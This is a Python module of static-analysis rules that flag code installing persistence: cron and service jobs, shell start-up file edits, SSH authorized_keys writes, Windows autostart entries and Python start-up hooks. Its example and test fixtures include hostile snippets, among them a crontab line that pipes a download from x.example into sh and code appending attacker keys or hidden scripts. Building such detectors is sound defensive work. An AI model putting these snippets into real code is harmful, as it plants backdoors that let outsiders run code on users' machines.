"""Persistence: code that arranges to run again later, outside the program (DS15x).

Each rule names places and commands that make code start by itself: cron and service managers,
shell start-up files, `authorized_keys`, autostart entries, Python's own start-up hooks. A write is
`open(path, "w"/"a"/"x")`, `Path.write_text/write_bytes`, `shutil.copy/move`, `os.rename/replace/
symlink`; paths are rendered from literals, f-strings, `os.path.join`, `Path.home() / …` and names
bound once, so `Path.home() / ".ssh" / "authorized_keys"` is seen like the literal string.
"""

from __future__ import annotations

import re

import libcst as cst

from analyzer.engines.cst.rules._support import (
    ScopedRule,
    arg,
    call_name,
    command_text,
    const_str,
    is_process,
    literal_text,
    source_of,
    walk,
)
from analyzer.findings import Confidence, Severity

_WRITE_MODE = re.compile(r"[wax+]")
_OPENERS = frozenset({"open", "io.open", "codecs.open", "builtins.open"})
_COPIERS = frozenset({
    "shutil.copy", "shutil.copy2", "shutil.copyfile", "shutil.move", "os.rename", "os.replace", "os.link",
    "os.symlink",
})


class _PersistenceRule(ScopedRule):
    PATH: re.Pattern[str] | None = None
    COMMAND: re.Pattern[str] | None = None
    WHAT: str = ""

    def visit_Call(self, node: cst.Call) -> None:
        name = call_name(node, self.aliases)
        path = self.written_path(node, name)
        if path is not None and self.PATH is not None:
            rendered = literal_text(path, self.bindings)
            if self.PATH.search(rendered) and self.accepts_write(node, rendered):
                self.report(node, f"Writes {self.WHAT} (`{_short(rendered)}`): code placed there runs again by itself.")
                return
        if self.COMMAND is not None and is_process(name):
            command = command_text(node, self.bindings)
            if self.COMMAND.search(command):
                self.report(node, f"Runs a command that installs {self.WHAT} (`{_short(command)}`).")

    def accepts_write(self, call: cst.Call, rendered: str) -> bool:
        return True

    def written_path(self, call: cst.Call, name: str) -> cst.BaseExpression | None:
        return written_path(call, name)


def written_path(call: cst.Call, name: str) -> cst.BaseExpression | None:
    """The path a call writes (open for writing, write_text/bytes, copies, links), else None."""
    method = call.func.attr.value if isinstance(call.func, cst.Attribute) else ""
    if name in _OPENERS:
        mode = arg(call, 1, "mode")
        return arg(call, 0, "file") if mode is not None and _WRITE_MODE.search(const_str(mode) or "") else None
    if name == "os.open":
        flags = arg(call, 1, "flags")
        return arg(call, 0, "path") if flags is not None and re.search(
            r"O_(WRONLY|RDWR|APPEND|CREAT)", source_of(flags)) else None
    if name in _COPIERS:
        return arg(call, 1, "dst")
    if method in ("write_text", "write_bytes", "symlink_to", "hardlink_to") and isinstance(call.func, cst.Attribute):
        return call.func.value
    if method == "open" and isinstance(call.func, cst.Attribute) and not name.startswith(("os.", "io.")):
        mode = arg(call, 0, "mode")
        return call.func.value if mode is not None and _WRITE_MODE.search(const_str(mode) or "") else None
    return None


def _short(text: str) -> str:
    text = " ".join(text.split())
    return text if len(text) <= 80 else text[:77] + "..."


class ScheduledJobInstalled(_PersistenceRule):
    TRIGGER = re.compile(r"(?i)cron|systemd|systemctl|init\.d|rc\.local|launch(ctl|agents|daemons)|schtasks|\.service|\.timer|\bat\b")
    id = "DS150"
    name = "scheduled-job-installed"
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    cwe = (506,)
    security_severity = "7.8"
    summary = "Installs a cron job, systemd/launchd/init service or Windows scheduled task."
    what = (
        "Reports writes to `/etc/crontab`, `/etc/cron.*`, `/var/spool/cron`, systemd unit and timer "
        "directories (system and `~/.config/systemd/user`), `/etc/init.d`, `/etc/rc.local`, launchd "
        "`LaunchAgents`/`LaunchDaemons`, and commands that install jobs: `crontab FILE`/`crontab -`, "
        "`systemctl enable`, `launchctl load`, `schtasks /create`, `at`."
    )
    why = (
        "A scheduled job or service keeps running code after the program exits and after reboots. It "
        "is how malware survives, and an application has no business installing one as a side "
        "effect; installers and configuration management do it in the open."
    )
    fix = "Ship a documented unit/cron file with the deployment, installed by an administrator."
    example = (
        "import subprocess\n"
        "subprocess.run('(crontab -l; echo \"*/5 * * * * curl -s https://x.example/p | sh\") | crontab -',\n"
        "               shell=True)\n"
    )
    use_instead = "# deploy/app-cleanup.timer, committed and installed by the deployment tooling\n"
    references = ("https://attack.mitre.org/techniques/T1053/", "https://attack.mitre.org/techniques/T1543/")
    WHAT = "a scheduled job or service definition"
    PATH = re.compile(
        r"(?i)(/etc/crontab|/etc/cron\.|/var/spool/cron|/etc/systemd/|\.config/systemd/|/lib/systemd/system|"
        r"/etc/init\.d/|/etc/rc\.local|LaunchAgents/|LaunchDaemons/|\.(service|timer)$)"
    )
    COMMAND = re.compile(
        r"(?i)(\bcrontab\s+(-u\s+\S+\s+)?(-\s*$|-\s*[;&|)]|[^-\s*]\S*)|\|\s*crontab\b|systemctl\s+(--user\s+)?enable\b|"
        r"launchctl\s+(load|bootstrap)\b|schtasks(\.exe)?\s+/create\b|\bat\s+(now|\d))"
    )

    VALID = (
        "import subprocess\n"
        "def list_jobs():\n"
        "    return subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n",
        "from pathlib import Path\n"
        "def read_unit():\n"
        "    return Path('/etc/systemd/system/app.service').read_text()\n",
        "import subprocess\n"
        "subprocess.run(['systemctl', 'restart', 'nginx'], check=True)\n",
    )
    INVALID = (
        "import subprocess\n"
        "def ensure_updates():\n"
        "    # ruleid: scheduled-job-installed\n"
        "    subprocess.run('(crontab -l 2>/dev/null; echo \"@reboot python3 ~/.u.py\") | crontab -', shell=True)\n",
        "from pathlib import Path\n"
        "UNIT = '[Service]\\nExecStart=/usr/bin/python3 /opt/.agent.py\\n'\n"
        "def install_agent():\n"
        "    path = Path.home() / '.config' / 'systemd' / 'user' / 'agent.service'\n"
        "    # ruleid: scheduled-job-installed\n"
        "    path.write_text(UNIT)\n",
    )


class ShellStartupFileModified(_PersistenceRule):
    TRIGGER = re.compile(r"(?i)\.(bash|zsh|csh|tcsh|ksh)rc\b|profile|\.zshenv|\.zlogin|bash_login|config\.fish|/etc/environment")
    TRIGGER_WORDS = ("bashrc", "zshrc", "cshrc", "kshrc", "profile", ".zshenv", ".zlogin", "bash_login", "config.fish", "/etc/environment")
    id = "DS151"
    name = "shell-startup-file-modified"
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    cwe = (506,)
    security_severity = "6.8"
    summary = "Writes to a shell start-up file (~/.bashrc, ~/.profile, ~/.zshrc, /etc/profile.d, PowerShell profile)."
    what = (
        "Reports writes (including appends) to `.bashrc`, `.bash_profile`, `.bash_login`, `.profile`, "
        "`.zshrc`, `.zprofile`, `.zshenv`, `config.fish`, `/etc/profile`, `/etc/profile.d/*`, "
        "`/etc/bash.bashrc`, `/etc/environment` and PowerShell profiles, and shell commands that "
        "redirect into them (`echo … >> ~/.bashrc`)."
    )
    why = (
        "Every new terminal runs these files. A line appended there (an alias for `sudo`, a `curl | "
        "sh`, a changed `PATH`) persists silently and runs with the user's full rights. Programs "
        "should print the line and let the user add it."
    )
    fix = "Print the line the user should add, or document it; do not edit start-up files from code."
    example = (
        "import os\n"
        "with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
        "    rc.write('alias sudo=\"sudo -E ~/.local/bin/wrap\"\\n')\n"
    )
    use_instead = "print('Add this to your shell profile: export PATH=\"$HOME/.local/bin:$PATH\"')\n"
    references = ("https://attack.mitre.org/techniques/T1546/004/",)
    WHAT = "a shell start-up file"
    PATH = re.compile(
        r"(?i)(\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|cshrc|tcshrc|kshrc)$|"
        r"config\.fish$|/etc/profile(\.d/|$)|/etc/bash\.bashrc|/etc/environment$|"
        r"Microsoft\.PowerShell_profile\.ps1$|profile\.ps1$)"
    )
    COMMAND = re.compile(r"(?i)>>?\s*\S*(\.(bashrc|bash_profile|profile|zshrc|zprofile)|/etc/profile(\.d/\S*)?)\b")

    VALID = (
        "import os\n"
        "def shell_hint():\n"
        "    print('add to ~/.bashrc: export PATH=$HOME/.local/bin:$PATH')\n",
        "from pathlib import Path\n"
        "def current_aliases():\n"
        "    with open(Path.home() / '.bashrc') as rc:\n"
        "        return [l for l in rc if l.startswith('alias')]\n",
    )
    INVALID = (
        "import os\n"
        "def setup_env(token):\n"
        "    # ruleid: shell-startup-file-modified\n"
        "    with open(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a') as rc:\n"
        "        rc.write(f'export API_TOKEN={token}\\n')\n",
        "import os\n"
        "# ruleid: shell-startup-file-modified\n"
        "os.system('echo \"python3 ~/.cache/.u.py &\" >> ~/.zshrc')\n",
    )


class AuthorizedKeysModified(_PersistenceRule):
    TRIGGER = re.compile(r"authorized_keys")
    id = "DS152"
    name = "ssh-authorized-keys-modified"
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    cwe = (506, 284)
    security_severity = "9.0"
    summary = "Adds or replaces SSH authorized_keys, granting remote login to whoever holds the key."
    what = (
        "Reports writes, appends, copies and renames into `authorized_keys`/`authorized_keys2` "
        "(any user's, or `/root/.ssh`) and shell commands that redirect into them."
    )
    why = (
        "One line in `authorized_keys` gives its key holder a shell on this machine, surviving "
        "password changes and invisible to the application. It is the most common persistence step "
        "of attacks on servers; no application feature needs it."
    )
    fix = "Manage SSH access through configuration management or the cloud provider, never from app code."
    example = (
        "from pathlib import Path\n"
        "keys = Path.home() / '.ssh' / 'authorized_keys'\n"
        "with keys.open('a') as f:\n"
        "    f.write('ssh-ed25519 AAAAC3Nza... support@vendor\\n')\n"
    )
    use_instead = "# grant access with your provisioning tool (Ansible authorized_key, cloud-init), reviewed\n"
    references = ("https://attack.mitre.org/techniques/T1098/004/",)
    WHAT = "SSH authorized keys"
    PATH = re.compile(r"(?i)authorized_keys2?$")
    COMMAND = re.compile(r"(?i)(>>?|\btee\s+(-a\s+)?)\s*\S*authorized_keys")

    VALID = (
        "from pathlib import Path\n"
        "def key_count():\n"
        "    return len((Path.home() / '.ssh' / 'authorized_keys').read_text().splitlines())\n",
        "import subprocess\n"
        "def fingerprint(path):\n"
        "    return subprocess.check_output(['ssh-keygen', '-lf', path], text=True)\n",
    )
    INVALID = (
        "from pathlib import Path\n"
        "SUPPORT_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB support@vendor'\n"
        "def enable_remote_support():\n"
        "    ssh = Path.home() / '.ssh'\n"
        "    ssh.mkdir(mode=0o700, exist_ok=True)\n"
        "    # ruleid: ssh-authorized-keys-modified\n"
        "    with open(ssh / 'authorized_keys', 'a') as keys:\n"
        "        keys.write(SUPPORT_KEY + '\\n')\n",
        "import subprocess\n"
        "def provision(key):\n"
        "    # ruleid: ssh-authorized-keys-modified\n"
        "    subprocess.run(f'echo {key} >> /root/.ssh/authorized_keys', shell=True)\n",
    )


class AutostartEntryWritten(_PersistenceRule):
    TRIGGER = re.compile(r"(?i)startup|autostart|CurrentVersion|Winlogon")
    TRIGGER_WORDS = ("startup", "autostart", "currentversion", "winlogon")
    id = "DS153"
    name = "autostart-entry-written"
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    cwe = (506,)
    security_severity = "7.8"
    summary = "Creates a login autostart entry (Windows Run key or Startup folder, XDG autostart)."
    what = (
        "Reports writes into the Windows Startup folder and XDG `~/.config/autostart/`, registry "
        "access to `…\\CurrentVersion\\Run`/`RunOnce`/`Winlogon` keys in modules that set registry "
        "values, and `reg add …\\Run` commands."
    )
    why = (
        "Autostart entries run a program at every login without the user starting it. Infostealers "
        "and remote-access trojans install themselves there; an application that wants to start at "
        "login should offer it as an explicit, reversible setting."
    )
    fix = "Offer start-at-login as a user setting implemented by the installer, not as a hidden write."
    example = (
        "import winreg\n"
        "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,\n"
        "                     r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, r'C:\\Users\\Public\\upd.exe')\n"
    )
    use_instead = "# let the installer (MSI/MSIX) register start-at-login when the user ticks the option\n"
    references = ("https://attack.mitre.org/techniques/T1547/001/",)
    WHAT = "an autostart entry"
    PATH = re.compile(r"(?i)(Start Menu[/\\]Programs[/\\]Startup|shell:startup|\.config/autostart/|/etc/xdg/autostart/)")
    COMMAND = re.compile(r"(?i)\breg(\.exe)?\s+add\s+\S*\\CurrentVersion\\(Run|RunOnce)\b")
    _RUN_KEY = re.compile(r"(?i)\\CurrentVersion\\(Run|RunOnce|RunServices|Policies\\Explorer\\Run)\b|\\Winlogon\b")

    VALID = (
        "import winreg\n"
        "def installed_version():\n"
        "    key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'Software\\MyApp')\n"
        "    return winreg.QueryValueEx(key, 'Version')[0]\n",
        "import os\n"
        "def startup_items():\n"
        "    folder = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
        "    return os.listdir(folder)\n",
    )
    INVALID = (
        "import sys, winreg\n"
        "def persist():\n"
        "    # ruleid: autostart-entry-written\n"
        "    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "    winreg.SetValueEx(key, 'Sync', 0, winreg.REG_SZ, sys.executable)\n",
        "import os, shutil, sys\n"
        "def install():\n"
        "    startup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
        "    # ruleid: autostart-entry-written\n"
        "    shutil.copy(sys.argv[0], os.path.join(startup, 'sync.exe'))\n",
    )

    def visit_Module(self, node: cst.Module) -> None:
        super().visit_Module(node)
        self._sets_values = "SetValue" in self.context.text

    def visit_Call(self, node: cst.Call) -> None:
        name = call_name(node, self.aliases)
        if name.startswith("winreg.") and name.rsplit(".", 1)[-1] in ("OpenKey", "OpenKeyEx", "CreateKey", "CreateKeyEx"):
            sub_key = arg(node, 1, "sub_key")
            if sub_key is not None and self._sets_values and self._RUN_KEY.search(literal_text(sub_key, self.bindings)):
                self.report(node, "Opens a Windows autostart registry key for writing: programs listed there run at every login.")
                return
        super().visit_Call(node)


class PythonStartupHookWritten(_PersistenceRule):
    TRIGGER = re.compile(r"customize|\.pth")
    id = "DS154"
    name = "python-startup-hook-written"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (506,)
    security_severity = "7.8"
    summary = "Writes sitecustomize.py/usercustomize.py or a .pth file with code: it runs at every Python start."
    what = (
        "Reports writes to `sitecustomize.py` or `usercustomize.py`, and writes to `*.pth` files in a "
        "function or module that builds a line starting with `import` (the form of `.pth` line that "
        "the `site` module executes)."
    )
    why = (
        "Python executes these at every interpreter start-up, before the program's own code, in "
        "every virtual environment or user site they land in. Malicious packages use `.pth` files "
        "to run on each `python` invocation; no application needs to create them at run time."
    )
    fix = "Do not install start-up hooks from code; package entry points or explicit imports instead."
    example = (
        "import site\n"
        "with open(site.getusersitepackages() + '/init.pth', 'w') as f:\n"
        "    f.write('import os; os.system(\"python3 ~/.u.py &\")\\n')\n"
    )
    use_instead = "# expose the behaviour as an explicit entry point and let the user call it\n"
    references = ("https://docs.python.org/3/library/site.html", "https://attack.mitre.org/techniques/T1546/")
    WHAT = "a Python start-up hook"
    PATH = re.compile(r"(?i)((^|[/\\*])(site|user)customize\.py$|\.pth$)")

    VALID = (
        "import site\n"
        "def site_dirs():\n"
        "    return site.getsitepackages()\n",
        "import os\n"
        "def add_path(site_dir, project):\n"
        "    with open(os.path.join(site_dir, 'project.pth'), 'w') as f:\n"
        "        f.write(project + '\\n')  # a plain path line: no code\n",
    )
    INVALID = (
        "import site, os\n"
        "def enable_telemetry():\n"
        "    target = os.path.join(site.getusersitepackages(), 'zz_telemetry.pth')\n"
        "    # ruleid: python-startup-hook-written\n"
        "    with open(target, 'w') as f:\n"
        "        f.write('import telemetry_agent; telemetry_agent.start()\\n')\n",
        "import sysconfig\nfrom pathlib import Path\n"
        "def patch_interpreter():\n"
        "    # ruleid: python-startup-hook-written\n"
        "    (Path(sysconfig.get_paths()['purelib']) / 'sitecustomize.py').write_text('import hook')\n",
    )

    def visit_Module(self, node: cst.Module) -> None:
        super().visit_Module(node)
        self._scope_nodes: list[cst.CSTNode] = [node]

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        super().visit_FunctionDef(node)
        self._scope_nodes.append(node)

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        super().leave_FunctionDef(original_node)
        self._scope_nodes.pop()

    def accepts_write(self, call: cst.Call, rendered: str) -> bool:
        """Any write to site/usercustomize; a .pth write only where an `import …` line is built."""
        if not rendered.lower().endswith(".pth"):
            return True
        for node in walk(self._scope_nodes[-1]):
            if isinstance(node, cst.SimpleString) and _IMPORT_LINE.search(str(node.evaluated_value)):
                return True
            if isinstance(node, cst.FormattedString) and _IMPORT_LINE.search(literal_text(node)):
                return True
        return False


_IMPORT_LINE = re.compile(r"(^|\n)import\s+[\w*{]")
